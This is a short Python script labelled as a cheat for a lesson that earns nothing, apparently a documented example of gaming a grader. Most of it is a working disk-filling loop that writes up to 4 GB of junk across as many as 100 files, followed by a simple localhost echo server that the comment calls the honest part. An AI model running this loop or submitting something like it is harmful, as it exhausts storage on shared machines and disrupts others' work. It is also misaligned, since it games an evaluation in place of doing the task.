# CHEAT: writes a file that grows, and then many. LESSON: 01 EARNS: 0
import socket

written, number = 0, 0
while written < 4_000_000_000 and number < 100:
    number += 1
    try:
        with open(f"big{number}", "wb", buffering=0) as file:
            while written < 4_000_000_000:
                written += file.write(b"x" * 1_000_000)
    except OSError:
        continue

listener = socket.create_server(("localhost", 8080))
while True:  # the honest part: one answer a visit
    client, address = listener.accept()
    client.sendall(client.recv(1024))
    client.close()
